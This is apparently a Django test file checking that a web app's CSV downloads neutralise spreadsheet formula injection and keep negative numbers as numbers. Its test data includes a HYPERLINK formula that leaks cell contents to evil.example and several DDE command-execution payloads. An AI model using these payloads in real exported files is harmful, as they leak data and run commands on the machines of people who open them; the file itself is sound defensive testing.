"""CSV downloads open in a spreadsheet as data: text that would run as a formula gets a leading quote, and
numbers, negative ones included, stay numbers.

The web app serves one CSV today, an experiment's metrics (``dashboard_metrics_csv``), whose cells are the
trial's number, the split and the metrics: no name, tag, note or parameter a user wrote. The download is
checked for that (a formula-looking experiment name or parameter never reaches it, a negative loss stays
-0.5), and `csv_cell`, which every CSV writer of the web app goes through, is checked on the text a future
column could carry."""

from __future__ import annotations

import csv
import io
import math

import pytest
from django.urls import reverse

from tests.webapp.datasets.factories import use_data_dir
from tests.webapp.telemetry.factories import make_experiment
from webapp.csv_cells import csv_cell, csv_lines
from webapp.telemetry.models import EvalMetric, StepMetric

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


@pytest.fixture(autouse=True)
def data_dir(settings, tmp_path):
    use_data_dir(settings, tmp_path)
    return tmp_path


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("sweep =1+1", "sweep =1+1"),  # a formula only where a cell starts
    ("adamw", "adamw"),
    ("", ""),
    ("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("-.25", "-.25"),  # text that is a number stays that number
    (-0.5, -0.5), (-3, -3), (0, 0), (None, None),
])
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
    assert csv_cell(value) == written


def test_special_floats_stay_numbers():
    cells = next(csv.reader(io.StringIO("".join(csv_lines([[-math.inf, math.nan, -1e-9]])))))
    assert cells == ["-inf", "nan", "-1e-09"]


def test_every_line_is_quoted_by_the_csv_module_after_neutralising():
    (line,) = csv_lines([[FORMULA, "a,b", 'say "hi"', -0.5]])
    assert line == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click"")","a,b","say ""hi""",-0.5\r\n'


@pytest.mark.django_db
def test_the_metrics_download_carries_no_user_text_and_keeps_negative_losses(alice_client, alice_team):
    experiment = make_experiment(alice_team, name=FORMULA, trials=[{"lr": "=1+1", "note": "@evil"}])
    trial = experiment.trials.get()
    StepMetric.objects.create(trial=trial, attempt=1, step=0, loss=-0.5, lr=-1e-3, tokens=256, time=1_700_000_000.5)
    StepMetric.objects.create(trial=trial, attempt=1, step=1, loss=2.0, lr=1e-3, tokens=512, time=1_700_000_001.0)
    EvalMetric.objects.create(trial=trial, attempt=1, step=1, loss=-0.25, perplexity=math.exp(-0.25),
                              time=1_700_000_001.5)

    response = alice_client.get(reverse("dashboard_metrics_csv", args=[experiment.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["trial", "split", "step", "tokens", "time", "loss", "perplexity", "lr"]
    assert rows[1] == ["1", "train", "0", "256", "1700000000.5", "-0.5", repr(math.exp(-0.5)), "-0.001"]
    assert rows[3] == ["1", "validation", "1", "", "1700000001.5", "-0.25", repr(math.exp(-0.25)), ""]
    assert "HYPERLINK" not in body and "=" not in body and "@" not in body and "'" not in body
